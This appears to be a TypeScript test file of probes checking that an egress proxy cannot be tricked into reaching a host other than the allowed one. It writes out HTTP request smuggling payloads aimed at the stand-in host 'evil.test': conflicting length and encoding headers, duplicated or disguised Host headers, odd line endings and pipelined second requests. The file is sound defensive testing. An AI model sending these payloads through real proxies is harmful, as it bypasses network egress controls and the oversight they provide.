import type { Claim, Probe } from "../probe/claim.ts";
import { toProxyProbe, toGet } from "./proxy-attack.ts";

const SECOND = toGet("/second", "evil.test");

export const SMUGGLING_CLAIMS: readonly Claim[] = [
  {
    id: "no-smuggled-requests",
    promise: "The proxy passes on one request to the allowed host, which no other server can read as something else.",
    protections: ["egress-proxy"],
    probes: [
      toProbe("give a body two lengths", ["POST", "Content-Length: 6\r\nTransfer-Encoding: chunked"], `0\r\n\r\nX`),
      toProbe("give it two by two numbers", ["POST", "Content-Length: 1\r\nContent-Length: 40"], `X${SECOND}`),
      toProbe("give it one as a list", ["POST", "Content-Length: 1, 40"], `X${SECOND}`),
      toProbe("give it one with a sign", ["POST", "Content-Length: +1"], `X${SECOND}`),
      toProbe("encode it in a way that only some know", ["POST", "Transfer-Encoding: xchunked"], `0\r\n\r\n${SECOND}`),
      toProbe(
        "encode it twice",
        ["POST", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"],
        `0\r\n\r\n${SECOND}`,
      ),
      toProbe("fold a header", ["GET", `X-Probe: a\r\n b: c\r\n\tHost: evil.test`], ""),
      toProbe("name two hosts", ["GET", "Host: evil.test"], ""),
      toProbe("hide a second host behind a space", ["GET", "Host : evil.test"], ""),
      toProbe("end a line in another way", ["GET", "X-Probe: a\nHost: evil.test"], ""),
      toProbe("end a line with half of its end", ["GET", "X-Probe: a\rHost: evil.test"], ""),
      toProbe("put a zero into a header", ["GET", "X-Probe: a\0b"], ""),
      toProbe("send a second request after the first", ["GET", "X-Probe: a"], SECOND),
      toProbe("send a second request in a body without a length", ["POST", "X-Probe: a"], SECOND),
      toProbe("have it sent back, with all that was added on the way", ["TRACE", "Max-Forwards: 0"], ""),
      toProbe("turn the connection into another kind", ["GET", "Connection: Upgrade\r\nUpgrade: probe"], SECOND),
      toProxyProbe({
        name: "name one host in the address and another in the header",
        toAttacks: (port) => [
          { request: toGet(`http://allowed.test:${port}/`, "evil.test") },
          { request: toGet(`http://allowed.test:${port}/`, `evil.test:${port}`) },
          { request: toGet(`http://evil.test:${port}/`, `allowed.test:${port}`) },
        ],
      }),
      toProxyProbe({
        name: "ask for what is not the web's",
        toAttacks: (port) => [
          { request: toGet("/", `evil.test:${port}`) },
          { request: toGet(`https://evil.test:${port}/`, `evil.test:${port}`) },
          { request: toGet(`http:evil.test:${port}/`, `evil.test:${port}`) },
          { request: toGet(`//evil.test:${port}/`, `evil.test:${port}`) },
        ],
      }),
    ],
  },
];

/** A request for the allowed host with these headers besides its own. */
function toProbe(name: string, [method, headers]: readonly [string, string], body: string): Probe {
  return toProxyProbe({
    name,
    toAttacks: (port) => {
      const host = `allowed.test:${port}`;
      return [{ request: `${method} http://${host}/ HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n\r\n${body}` }];
    },
  });
}
